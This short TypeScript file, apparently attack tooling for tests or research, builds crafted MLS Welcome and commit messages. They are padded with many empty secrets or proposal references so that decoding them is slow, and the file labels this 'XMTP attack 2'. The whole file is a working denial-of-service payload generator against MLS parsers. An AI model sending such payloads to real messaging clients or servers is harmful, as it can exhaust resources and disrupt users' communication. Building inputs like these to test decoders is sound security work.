/** MLS bytes that are slow to decode whole (XMTP attack 2). */

const varlen = (n: number) => (n < 64 ? [n] : n < 16384 ? [0x40 | (n >> 8), n & 0xff] : [0x80 | (n >> 24), (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff])

/** An MLS message (mls10, mls_welcome, XMTP's ciphersuite) of `count` empty secrets: 3 zero bytes each. */
export const hostileWelcome = (count: number) => {
  const head = [0x00, 0x01, 0x00, 0x03, 0x00, 0x01, ...varlen(count * 3)]
  const bytes = new Uint8Array(head.length + count * 3 + 1)
  bytes.set(head)
  return bytes
}

/** An MLS PublicMessage commit (member sender, no path, empty signature and tags) of `count` empty proposal references. */
export const hostileCommit = (count: number) => {
  const head = [0, 1, 0, 1, ...varlen(16), ...Array(16).fill(7), 0, 0, 0, 0, 0, 0, 0, 1, 1, 0, 0, 0, 0, 0, 3, ...varlen(count * 2)]
  const bytes = new Uint8Array(head.length + count * 2 + 4)
  bytes.set(head)
  for (let i = 0; i < count; i++) bytes[head.length + 2 * i] = 2
  return bytes
}
